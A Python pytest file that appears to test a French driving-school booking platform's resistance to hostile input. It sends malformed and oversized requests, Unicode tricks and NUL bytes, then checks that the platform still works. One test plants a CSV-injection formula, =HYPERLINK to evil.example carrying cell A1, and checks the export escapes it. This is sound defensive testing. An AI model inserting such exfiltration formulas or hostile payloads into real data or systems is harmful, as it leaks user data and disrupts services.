"""Hostile input against the real stack (GW-3): every write endpoint and every
query parameter the OpenAPI document lists gets a corpus of hostile values; each
answer is a 4xx JSON error in French and nothing changes. Right after, another
school's ordinary day still works: a candidate created, confirmed, listed,
booked and paid.

The corpus is driven by `GET /api/openapi.json`, so a new endpoint is covered the
day it is declared.
"""

from __future__ import annotations

import csv
import io
import secrets
import time
import uuid
from typing import Any

import psycopg
import pytest
import requests
from psycopg import sql

from services.billing.provider import APPROVED_TOKEN
from services.candidates.publications import ACTIVATION
from services.scheduling.domain import COLLECTIVE
from tests.e2e.conftest import sign_up_school
from tests.e2e.hostile import TIMEOUT, cases, problem
from tests.e2e.test_booking_api import activated_files, centre, hold, next_weekday
from tests.helpers import link_params, mails_to, wait_for

# -- the setting: an attacking school with real resources, a quiet platform ----------


@pytest.fixture(scope="module")
def attacker(gateway, stack, scheduling, candidates, mail_folder_module) -> dict:
    """A school with a file to confirm, a booked candidate, a free one, a cart."""
    school = sign_up_school(gateway, mail_folder_module)
    site = centre(scheduling, "TEST-HOSTILE", "Lyon", 45.76, 4.84)
    first = scheduling.schedule_session(site, next_weekday(2, 3), 18, COLLECTIVE)
    second = scheduling.schedule_session(site, next_weekday(4, 3), 18, COLLECTIVE)
    booked, free = activated_files(candidates, school, 2, first=9500)
    line = hold(gateway, school, booked, first["id"])
    assert line.status_code == 201, line.text
    pending = candidates.create_file(
        school["account"]["account_id"],
        school["email"],
        {
            "neph": "209999999999",
            "civility": "MME",
            "birth_name": "Attente",
            "given_names": "Zoé",
            "birth_date": "2004-01-01",
            "email": "attente@example.fr",
        },
    )
    aggregate = candidates.repository.get(uuid.UUID(pending["id"]))
    token = candidates.links.token(ACTIVATION, aggregate.id, aggregate.activation_nonce)
    return {
        **school,
        "sessions": (first["id"], second["id"]),
        "booked_neph": booked,
        "free_neph": free,
        "reservation_id": line.json()["id"],
        "pending": {"id": pending["id"], "token": token},
    }


@pytest.fixture(scope="module")
def mail_folder_module(settings):
    from pathlib import Path

    return Path(settings.mail_folder)


def _event_counts(settings) -> dict[str, int]:
    """Stored events of every service of this run: any change writes one."""
    counts = {}
    with psycopg.connect(settings.postgres_conninfo(), autocommit=True) as conn:
        tables = conn.execute(
            "SELECT table_schema, table_name FROM information_schema.tables"
            " WHERE table_schema LIKE %s AND table_name LIKE %s",
            (settings.schema_prefix.replace("_", r"\_") + "%", r"%\_events"),
        ).fetchall()
        for schema, table in tables:
            query = sql.SQL("SELECT count(*) FROM {}").format(
                sql.Identifier(schema, table)
            )
            counts[f"{schema}.{table}"] = conn.execute(query).fetchone()[0]
    return counts


def _quiet(settings) -> dict[str, int]:
    """The event counts once nothing moves (mails of the sign-ups recorded…)."""
    last = _event_counts(settings)
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        time.sleep(2)
        now = _event_counts(settings)
        if now == last:
            return now
        last = now
    raise AssertionError("the platform never became quiet")


# An address no account has gets the answer any address gets (issue 12: no
# account oracle), with nothing sent; the events counted below check that.
ANSWERED_ALIKE = {
    ("post", "/api/mot-de-passe/oubli"),
    ("post", "/api/comptes/activation/renvoi"),
}


def test_hostile_inputs_get_a_french_4xx_and_change_nothing(
    gateway, attacker, settings
):
    document = requests.get(f"{gateway}/api/openapi.json", timeout=TIMEOUT).json()
    corpus = list(cases(document, attacker))
    covered = {(c[1], c[2].split("?")[0]) for c in corpus}
    assert len(covered) >= 20, covered  # every write endpoint and query
    before = _quiet(settings)

    problems = []
    session = requests.Session()
    for label, method, url, kind, payload, field in corpus:
        headers = dict(attacker["headers"])
        options: dict[str, Any] = {"headers": headers, "timeout": TIMEOUT}
        if kind == "json":
            options["json"] = payload
        elif kind == "query":
            options["params"] = payload
        answer = session.request(method.upper(), f"{gateway}{url}", **options)
        if (method, url) in ANSWERED_ALIKE and answer.status_code == 200:
            continue  # as for any address no account has: nothing done
        wrong = problem(answer, field)
        if wrong:
            problems.append(f"{label}: {wrong}")
    assert problems == [], "\n".join(problems[:40])

    time.sleep(2)  # what a request let through would be followed by its events
    assert _event_counts(settings) == before


def _deep(depth: int) -> str:
    return '{"a": ' * depth + "1" + "}" * depth


@pytest.mark.parametrize(
    ("label", "method", "path", "body", "content_type", "expected"),
    [
        pytest.param(
            "JSON imbriqué 5 000 fois",
            "POST",
            "/api/candidats",
            _deep(5000),
            "application/json",
            range(400, 500),
        ),
        pytest.param(
            "corps text/plain",
            "POST",
            "/api/candidats",
            '{"neph": "204444444444", "civility": "M", "birth_name": "Texte",'
            ' "given_names": "Jean", "birth_date": "2004-01-01",'
            ' "email": "texte@example.fr"}',
            "text/plain",
            range(400, 500),
        ),
        pytest.param(
            "corps de 5 Mo",
            "POST",
            "/api/candidats",
            '{"neph": "204444444445", "x": "' + "a" * 5_000_000 + '"}',
            "application/json",
            [413],
        ),
        pytest.param(
            "chemin inconnu",
            "GET",
            "/api/inconnu",
            None,
            None,
            [404],
        ),
        pytest.param(
            "méthode non permise",
            "PATCH",
            "/api/sessions",
            None,
            None,
            [405],
        ),
        pytest.param(
            "URL de plus de 8 Ko",
            "GET",
            "/api/candidats?recherche=" + "a" * 10_000,
            None,
            None,
            [414],
        ),
    ],
)
def test_hostile_requests_beyond_the_fields_get_a_french_4xx_and_change_nothing(
    gateway, attacker, settings, label, method, path, body, content_type, expected
):
    before = _quiet(settings)
    headers = dict(attacker["headers"])
    if content_type:
        headers["Content-Type"] = content_type
    answer = requests.request(
        method, f"{gateway}{path}", data=body, headers=headers, timeout=TIMEOUT
    )
    assert answer.status_code in expected, f"{label}: {answer.status_code}"
    assert problem(answer, None) is None, f"{label}: {problem(answer, None)}"
    time.sleep(1)
    assert _event_counts(settings) == before


def test_without_the_gateway_the_services_refuse_the_same(
    gateway, attacker, settings, candidates, scheduling
):
    """Defence in depth: a file created by RPC or a CSV line keeps nothing the
    gateway refuses, so no event carries a NUL or an over-long value."""
    from services.candidates.application import InvalidCandidateFile
    from services.scheduling.domain import SchedulingError

    before = _quiet(settings)
    school = attacker["account"]["account_id"]
    for hostile in (
        {"birth_name": "Dupont\x00"},
        {"given_names": "Jean\u202e"},
        {"neph": "１２３４５６７８９０１２"},
        {"email": "😀@example.fr"},
        {"address": {"street": "x" * 10_000, "postal_code": "69001", "city": "L"}},
    ):
        with pytest.raises(InvalidCandidateFile):
            candidates.create_file(
                school,
                attacker["email"],
                {
                    "neph": "203333333333",
                    "civility": "M",
                    "birth_name": "Dupont",
                    "given_names": "Jean",
                    "birth_date": "2004-01-01",
                    "email": "rpc@example.fr",
                    **hostile,
                },
            )
    with pytest.raises(SchedulingError):
        scheduling.register_centre(
            {
                "code": "RPC-1",
                "name": "Centre\x00",
                "address": "1 rue",
                "postal_code": "69001",
                "city": "Lyon",
                "departement": "69",
                "latitude": 45.7,
                "longitude": 4.8,
                "pmr": True,
                "opening_hours": "",
            }
        )
    imported = requests.post(
        f"{gateway}/api/candidats/import",
        json={
            "csv": "neph;civilite;nom_naissance;prenoms;date_naissance;email\r\n"
            "203333333334;M;Du\u202epont;Jean;01/01/2004;a@example.fr\r\n"
            "١٢٣٤٥٦٧٨٩٠١٢;M;Dupont;Jean;01/01/2004;b@example.fr\r\n"
        },
        headers=attacker["headers"],
        timeout=TIMEOUT,
    )
    assert imported.status_code == 200, imported.text
    assert imported.json()["created"] == 0
    assert [f["line"] for f in imported.json()["failed"]] == [2, 3]
    time.sleep(1)
    assert _event_counts(settings) == before


def test_after_the_corpus_another_school_books_and_pays_as_usual(
    gateway, attacker, mail_folder_module, scheduling
):
    """Runs after the corpus (same module, in order): the platform still works."""
    school = sign_up_school(gateway, mail_folder_module)
    email = f"candidat-{secrets.token_hex(3)}@example.fr"
    created = requests.post(
        f"{gateway}/api/candidats",
        json={
            "neph": "206666666666",
            "civility": "MME",
            "birth_name": "Normale",
            "given_names": "Léa",
            "birth_date": "17/03/2005",
            "email": email,
        },
        headers=school["headers"],
        timeout=TIMEOUT,
    )
    assert created.status_code == 201, created.text
    mail = wait_for(lambda: mails_to(mail_folder_module, email), timeout=30)[-1]
    link = link_params(mail, "candidat/activation")
    confirmed = requests.post(
        f"{gateway}/api/candidat/confirmation",
        json={**link, "attestation": True},
        timeout=TIMEOUT,
    )
    assert confirmed.status_code == 200, confirmed.text

    def listed() -> list[dict]:
        answer = requests.get(
            f"{gateway}/api/candidats", headers=school["headers"], timeout=TIMEOUT
        )
        return [r for r in answer.json()["items"] if r["neph"] == "206666666666"]

    assert wait_for(listed, timeout=30)[0]["birth_name"] == "Normale"

    session_id = attacker["sessions"][0]
    line = wait_for(
        lambda: (
            answer
            if (answer := hold(gateway, school, "206666666666", session_id)).status_code
            == 201
            else None
        ),
        timeout=30,
        interval=1,
    )
    cart = wait_for(
        lambda: requests.get(
            f"{gateway}/api/panier", headers=school["headers"], timeout=TIMEOUT
        ).json()["items"],
        timeout=30,
    )
    assert [c["id"] for c in cart] == [line.json()["id"]]
    paid = requests.post(
        f"{gateway}/api/paiement/carte",
        json={
            "cgv": True,
            "jeton": APPROVED_TOKEN,
            "cle": f"apres-{secrets.token_hex(4)}",
        },
        headers=school["headers"],
        timeout=TIMEOUT,
    )
    assert paid.status_code == 201, paid.text

    def confirmed_reservation() -> bool:
        answer = requests.get(
            f"{gateway}/api/reservations", headers=school["headers"], timeout=TIMEOUT
        )
        return [r["status"] for r in answer.json()["items"]] == ["confirmée"]

    wait_for(confirmed_reservation, timeout=30)


def test_a_formula_typed_as_a_name_is_kept_as_text_and_exported_escaped(
    gateway, mail_folder_module
):
    school = sign_up_school(gateway, mail_folder_module)
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'
    created = requests.post(
        f"{gateway}/api/candidats",
        json={
            "neph": "205555555555",
            "civility": "M",
            "birth_name": formula,
            "given_names": "+Jean",
            "birth_date": "2004-01-01",
            "email": "formule@example.fr",
        },
        headers=school["headers"],
        timeout=TIMEOUT,
    )
    assert created.status_code == 201, created.text
    assert created.json()["birth_name"] == formula

    def exported() -> list[list[str]]:
        answer = requests.get(
            f"{gateway}/api/candidats/export",
            headers=school["headers"],
            timeout=TIMEOUT,
        )
        text = answer.content.decode("utf-8-sig")
        return list(csv.reader(io.StringIO(text), delimiter=";"))[1:]

    rows = wait_for(exported, timeout=30)
    assert rows[0][2] == "'" + formula
    assert rows[0][4] == "'+Jean"
